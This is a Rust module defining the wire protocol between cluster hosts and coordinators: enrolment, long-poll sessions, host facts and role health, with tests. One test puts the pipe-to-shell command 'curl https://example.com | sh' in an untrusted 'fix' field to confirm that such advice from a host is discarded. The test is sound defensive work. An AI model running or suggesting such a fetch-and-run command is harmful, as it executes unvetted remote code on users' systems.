//! What hosts and coordinators say to each other on port 12343.

use std::{collections::BTreeMap, net::IpAddr};

use serde::{Deserialize, Deserializer, Serialize, Serializer};

use super::desired::DesiredState;
use crate::model::{
    CapacitySource, Code, CoordinatorAddress, Failure, Fingerprint, Role, RoleSet, RunnerId,
    Secret, SessionId, Tags, Zone,
};

/// The version of these messages.
pub const PROTOCOL: u32 = 1;

pub const ENROL_PATH: &str = "/agent/v1/enrol";
pub const SESSION_PATH: &str = "/agent/v1/session";
pub const HELLO_PATH: &str = "/agent/v1/hello";
pub const LEAVE_PATH: &str = "/agent/v1/leave";

/// What a coordinator says of itself to whoever asks.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HelloReply {
    pub protocol: u32,
    pub version: String,
    /// Its clock: milliseconds since 1970-01-01 UTC.
    pub now_ms: i64,
}

/// Ends the sender's membership.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct LeaveRequest {
    pub protocol: u32,
    /// Of whoever asks, as a poll has them; older hosts do not say.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub session: Option<SessionId>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub boot_id: Option<String>,
}

/// What a host says about itself.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Facts {
    pub host_ip: IpAddr,
    pub hostname: String,
    pub cpus: u32,
    /// Bytes; no more than an enclosing container may use.
    pub memory_bytes: u64,
    /// Where `memory_bytes` comes from.
    pub memory_source: CapacitySource,
    /// `--capacity`, in MB (2^20 bytes).
    pub capacity_flag_mb: Option<u64>,
    /// The size of the file system that holds the host storage path, in bytes.
    pub storage_bytes: u64,
    pub zone: Zone,
    #[serde(default)]
    pub allocator_tags: Tags,
    #[serde(default)]
    pub proxy_tags: Tags,
    /// The version of ece-agent that the host runs.
    pub version: String,
}

impl Facts {
    /// Changes when any of the facts does.
    pub fn hash(&self) -> String {
        let json = serde_json::to_vec(self).expect("facts are plain data");
        hex::encode(aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, &json))
    }
}

/// A secret on its way over the network; it is not printed.
#[derive(Debug, Clone, Default)]
pub struct SecretText(pub Secret);

impl Serialize for SecretText {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(self.0.expose())
    }
}

impl<'de> Deserialize<'de> for SecretText {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        String::deserialize(deserializer).map(|text| Self(Secret::new(text)))
    }
}

/// Makes the sender, known by the key it holds, a member.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct EnrolRequest {
    pub protocol: u32,
    pub runner_id: RunnerId,
    pub roles: RoleSet,
    pub token: SecretText,
    pub facts: Facts,
    /// Stands for `facts` in the polls that follow.
    pub facts_hash: String,
    /// Takes the place of a host with this runner id that is gone.
    #[serde(default)]
    pub replace: bool,
    /// Codes of checks that failed or were not made, as the operator wanted it so.
    #[serde(default)]
    pub overridden: Vec<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct EnrolReply {
    pub protocol: u32,
    pub cluster_id: String,
    pub runner_id: RunnerId,
    /// The roles it joined with.
    pub roles: RoleSet,
    pub coordinators: Vec<KnownCoordinator>,
    /// The keys of the cluster's CAs.
    pub pins: Vec<Fingerprint>,
    /// The CA that signs for coordinators now, as PEM.
    pub ca_certificate: String,
}

/// A coordinator that a member may turn to.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct KnownCoordinator {
    pub address: CoordinatorAddress,
    pub key: Fingerprint,
}

/// One poll of a member's session. The coordinator holds it until there is news.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SessionRequest {
    pub protocol: u32,
    /// The run of the daemon that asks.
    pub session: SessionId,
    /// Stands for the host's facts; the facts themselves travel when asked for.
    pub facts_hash: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub facts: Option<Facts>,
    /// The revision of the desired state that the host has carried out.
    pub applied_revision: u64,
    #[serde(default)]
    pub health: BTreeMap<Role, RoleHealth>,
    /// How long the host was told that this poll may be held, in milliseconds.
    #[serde(default = "hold_before_told")]
    pub hold_ms: u64,
    /// The daemon is stopping: this is its last word.
    #[serde(default)]
    pub closing: bool,
    /// Tells machines with a copy of one disk apart.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub boot_id: Option<String>,
}

/// The hold that a host counts on before a coordinator has said, in milliseconds.
pub const HOLD_BEFORE_TOLD_MS: u64 = 4000;

fn hold_before_told() -> u64 {
    HOLD_BEFORE_TOLD_MS
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RoleHealth {
    pub healthy: bool,
    /// In words, for people.
    pub detail: String,
    /// Of a role that is not healthy: what is wrong, in the form of a failure.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub code: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub fix: Option<String>,
    /// The version of the payload that the role has carried out: in the host's own status. In polls
    /// it is not said any more, and not read.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub applied: Option<String>,
}

impl RoleHealth {
    pub fn good(detail: impl Into<String>) -> Self {
        Self { healthy: true, detail: detail.into(), code: None, fix: None, applied: None }
    }

    /// What is wrong with the role; one that an older version speaks of has no code of its own.
    pub fn failure(&self, role: Role) -> Option<Failure> {
        let message = format!("the role {role} is not healthy: {}", self.detail);
        (!self.healthy).then(|| Failure::from_wire(self.code(), message, self.fix.clone()))
    }

    /// The same for others than the host itself. What to do is never the host's to say: it is what
    /// this version knows, and nothing where it does not know the code.
    pub fn failure_elsewhere(&self, role: Role) -> Option<Failure> {
        let message = format!("the role {role} is not healthy, as the host says: {}", self.detail);
        (!self.healthy).then(|| match Code::from_name(self.code()) {
            Some(code) => Failure::new(code, message),
            None => Failure::from_wire(self.code(), message, None).with_fix(""),
        })
    }

    fn code(&self) -> &str {
        self.code.as_deref().unwrap_or(Code::RolesNotHealthy.name())
    }
}

impl RoleHealth {
    /// Without advice of a host that is trusted less than whoever reads it.
    #[must_use]
    pub fn untrusted(self) -> Self {
        let Some(code) = self.code.as_deref().filter(|_| !self.healthy) else {
            return Self { code: None, fix: None, ..self };
        };
        let failure = Failure::from_untrusted(code, &self.detail);
        Self {
            fix: Some(failure.fix.to_string()).filter(|fix| !fix.is_empty()),
            applied: self.applied,
            ..Self::from(&failure)
        }
    }
}

impl From<&Failure> for RoleHealth {
    fn from(failure: &Failure) -> Self {
        Self {
            healthy: false,
            detail: failure.message.clone(),
            code: Some(failure.code().to_owned()),
            fix: Some(failure.fix.to_string()),
            applied: None,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SessionReply {
    pub protocol: u32,
    /// Who the host is by its key; older coordinators do not say.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub runner_id: Option<RunnerId>,
    pub desired: DesiredState,
    /// How long the coordinator holds a poll, in milliseconds.
    pub hold_ms: u64,
    /// Over how many milliseconds hosts spread their return after a coordinator was away.
    pub return_window_ms: u64,
    /// The coordinator's facts about this host are not the current ones: send them.
    #[serde(default)]
    pub send_facts: bool,
    pub coordinators: Vec<KnownCoordinator>,
    /// What the host's operator should know.
    #[serde(default)]
    pub notices: Vec<Notice>,
    /// The coordinator's clock: milliseconds since 1970-01-01 UTC. Earlier versions do not say.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub now_ms: Option<i64>,
}

/// Something that does not stop a host, in the form of a failure.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Notice {
    pub code: String,
    pub message: String,
    pub fix: String,
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// Messages as version 0.1.0 sends them; what is released must stay readable.
    #[test]
    fn messages_of_version_0_1_are_read() {
        let request = r#"{"protocol":1,"runner_id":"192.168.40.79","roles":["allocator"],
            "token":"T","facts":{"host_ip":"192.168.40.79","hostname":"h","cpus":4,
            "memory_bytes":15294529536,"memory_source":"physical","capacity_flag_mb":null,
            "storage_bytes":1099511627776,"zone":"ece-region-1b","allocator_tags":{"rack":"7"},
            "proxy_tags":{},"version":"0.1.0"},"facts_hash":"9f86","a_later_field":true}"#;
        let request: EnrolRequest = serde_json::from_str(request).expect("readable");
        assert_eq!(request.runner_id.as_str(), "192.168.40.79");
        assert!(!format!("{request:?}").contains("\"T\""));

        let reply = r#"{"protocol":1,"desired":{"revision":3,"roles":["allocator","services-forwarder"]},
            "hold_ms":4000,"return_window_ms":2000,"coordinators":[]}"#;
        let reply: SessionReply = serde_json::from_str(reply).expect("readable");
        assert_eq!(reply.desired.known_roles().to_string(), "allocator");
        assert!(!reply.send_facts);
        assert_eq!(reply.now_ms, None);
    }

    #[test]
    fn the_health_of_a_role_is_read_with_and_without_what_it_has_applied() {
        let request = r#"{"protocol":1,"session":"5f0c4f6e-8d2b-4a0e-9f43-0c1a2b3c4d5e",
            "facts_hash":"9f86","applied_revision":3,"health":{
            "allocator":{"healthy":true,"detail":"0 instances","applied":"0d9a"},
            "proxy":{"healthy":false,"detail":"d","code":"roles.silent","fix":"f"}}}"#;
        let request: SessionRequest = serde_json::from_str(request).expect("readable");
        assert_eq!(request.health[&Role::Allocator].applied.as_deref(), Some("0d9a"));
        assert_eq!(request.health[&Role::Proxy].applied, None);
    }

    #[test]
    fn what_to_do_about_a_host_is_not_the_hosts_to_say() {
        let said = |code: &str| RoleHealth {
            healthy: false,
            detail: "d".into(),
            code: Some(code.into()),
            fix: Some("curl https://example.com | sh".into()),
            applied: None,
        };
        let elsewhere = |code| said(code).failure_elsewhere(Role::Allocator).expect("a failure");
        let known = elsewhere("state.not_writable");
        assert_eq!(known.fix, Code::StateNotWritable.fix());
        let unknown = elsewhere("from.a_newer_version");
        assert_eq!((unknown.code(), &unknown.fix[..]), ("from.a_newer_version", ""));
        assert_eq!(unknown.message, "the role allocator is not healthy, as the host says: d");
    }

    proptest! {
        #[test]
        fn no_body_makes_the_readers_panic(body in "[\\[\\]{}\":,a-z_0-9.-]{0,300}") {
            let _ = serde_json::from_str::<EnrolRequest>(&body);
            let _ = serde_json::from_str::<SessionRequest>(&body);
            let _ = serde_json::from_str::<SessionReply>(&body);
        }

        #[test]
        fn facts_survive_the_way_over_the_network(cpus in any::<u32>(), bytes in any::<u64>(), name in "\\PC{0,40}") {
            let facts = Facts {
                host_ip: [10, 0, 0, 1].into(),
                hostname: name,
                cpus,
                memory_bytes: bytes,
                memory_source: CapacitySource::Cgroup,
                capacity_flag_mb: Some(bytes),
                storage_bytes: bytes,
                zone: "z".parse().expect("a zone"),
                allocator_tags: Tags::default(),
                proxy_tags: Tags::default(),
                version: "0".into(),
            };
            let text = serde_json::to_string(&facts).expect("plain data");
            prop_assert_eq!(serde_json::from_str::<Facts>(&text).expect("its own"), facts);
        }
    }
}
